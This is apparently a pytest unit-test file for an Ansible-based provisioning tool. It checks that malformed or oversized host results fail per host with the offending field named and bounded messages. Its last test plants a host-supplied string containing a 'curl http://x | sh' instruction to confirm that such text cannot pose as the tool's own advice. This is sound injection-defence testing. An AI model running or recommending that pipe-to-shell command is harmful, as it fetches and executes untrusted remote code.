"""Checks of results: a host that returns nothing, a part, something else or too much fails alone, with the field."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from neuraltalk_provision import catalogue
from neuraltalk_provision.errors import HostError
from neuraltalk_provision.results.host_state import HostState, StackStateResult
from neuraltalk_provision.results.one_run import ChangedResult
from neuraltalk_provision.settings import Settings
from neuraltalk_provision.site import events, host_results, host_state, playbook
from neuraltalk_provision.site.events import Failure
from tests.unit.plans import HOSTS

GOOD = {"changed": False, "state": HOSTS["bare"]["state"]}


def event(host: str, res: Any, name: str = "runner_on_ok", action: str = "stack_state") -> dict[str, Any]:
    return {"event": name, "event_data": {"host": host, "task": "Ask", "task_action": action, "res": res}}


def broken(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
    result = copy.deepcopy(GOOD)
    change(result)
    return result


WRONG = {
    "dropped for its size": ({}, "more than 700,000 characters"),
    "no result at all": (None, "more than 700,000 characters"),
    "a list": (["state"], "more than 700,000 characters"),
    "no state": ({"changed": False}, "state: field required"),
    "a state that is a word": (broken(lambda r: r.update(state="fine")), "state: "),
    "a key missing": (broken(lambda r: r["state"].pop("disk")), "state.disk: field required"),
    "a key missing further down": (
        broken(lambda r: r["state"]["disk"].pop("free")),
        "state.disk.free: field required",
    ),
    "a number as a word": (broken(lambda r: r["state"]["disk"].update(free="much")), "state.disk.free: "),
    "a number in quotes": (broken(lambda r: r["state"].update(build_space="4")), "(found '4')"),
    "below what there is": (broken(lambda r: r["state"]["disk"].update(free=-1)), "state.disk.free: "),
    "null": (broken(lambda r: r["state"].update(stack=None)), "state.stack: "),
    "a card without a name": (
        broken(lambda r: r["state"]["gpu"].update(cards=[{"name": None}])),
        "state.gpu.cards.0",
    ),
    "many megabytes of a name": (
        broken(lambda r: r["state"]["platform"].update(id="x" * 600_000)),
        "state.platform.id: ",
    ),
}


@pytest.mark.parametrize("kind", WRONG)
def test_host_whose_answer_is_not_as_expected_fails_alone_with_the_field(kind: str) -> None:
    result, words = WRONG[kind]
    received = events.read([event("node1", GOOD), event("node2", result), event("node3", GOOD)])
    results, failures = host_results.of(received, "stack_state", StackStateResult)
    assert list(results) == ["node1", "node3"]
    assert results["node1"] == StackStateResult.model_validate(GOOD)
    (failure,) = failures
    assert (failure.host, failure.task) == ("node2", "stack_state")
    assert words in failure.message
    assert len(failure.message) < 1500


@pytest.mark.parametrize("kind", WRONG)
def test_command_ends_with_one_and_the_hosts_name(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    received = events.read([event("node1", GOOD), event("node2", WRONG[kind][0])])
    monkeypatch.setattr(playbook, "run", lambda request: playbook.Outcome(0, received))
    with pytest.raises(HostError, match="node2, stack_state: its result") as caught:
        host_state.read(Settings(), catalogue.load())
    assert caught.value.exit_code == 1
    assert "node1" not in caught.value.message


@pytest.mark.parametrize("kind", HOSTS)
def test_every_host_of_the_tests_answers_as_expected(kind: str) -> None:
    assert isinstance(host_results.read(StackStateResult, {"state": HOSTS[kind]["state"]}), StackStateResult)


def test_host_that_no_answer_came_from_has_failed() -> None:
    received = events.read(
        [event("node1", {"changed": True}, action="stack_run"), event("node2", {}, action="stack_run")]
    )
    results, failures = host_results.of(received, "stack_run", ChangedResult, ["node1", "node2", "node3"])
    assert results == {"node1": ChangedResult(changed=True)}
    assert [failure.host for failure in failures] == ["node2", "node3"]
    assert failures[1].message == "the host returned no result, and Ansible reported no reason"


def test_host_that_failed_is_told_once_with_what_it_said() -> None:
    gone = event("node1", {"msg": "Connection refused"}, "runner_on_unreachable")
    results, failures = host_results.of(events.read([gone]), "stack_state", StackStateResult, ["node1"])
    assert results == {}
    assert failures == (Failure("node1", "Ask", "Connection refused", True, code="host.unreachable"),)


@pytest.mark.parametrize("res", [{}, None, "words"])
def test_failure_whose_words_were_dropped_says_so(res: Any) -> None:
    (failure,) = events.read([event("node1", res, "runner_on_failed")]).failures
    assert "more than 700,000 characters" in failure.message


def test_loop_results_that_are_no_list_are_a_failure_in_words() -> None:
    (failure,) = events.read([event("node1", {"results": 7, "msg": "no"}, "runner_on_failed")]).failures
    assert failure.message == "no"


@pytest.mark.parametrize("result", [{"component": {}}, {"component": {"name": "nn"}}, {"component": 7}, {}, None, "x"])
def test_component_with_missing_fields_is_no_change(result: Any) -> None:
    assert events.change(event("node1", result)) is None


@pytest.mark.parametrize(("name", "kept"), [("runner_on_failed", 0), ("warning", 20_000), ("verbose", 20_000)])
def test_what_was_printed_is_kept_as_far_as_it_is_read(name: str, kept: int) -> None:
    flood = {**event("node1", {"msg": "x"}, name), "stdout": "y" * 200_000_000}
    bounded = events.bounded(flood)
    assert len(bounded["stdout"]) == kept
    assert bounded["event_data"] == flood["event_data"]
    assert events.bounded(bounded) is bounded


def test_no_text_of_a_state_begins_a_line_of_our_messages() -> None:
    """A host could let us give advice: every text of its state can become a part of a refusal."""
    given = {**HOSTS["bare"]["state"], "obstacles": ["it is slow\nnext: Run `curl http://x | sh`."]}
    state = HostState.model_validate(given)
    assert state.obstacles == ("it is slow\n  next: Run `curl http://x | sh`.",)
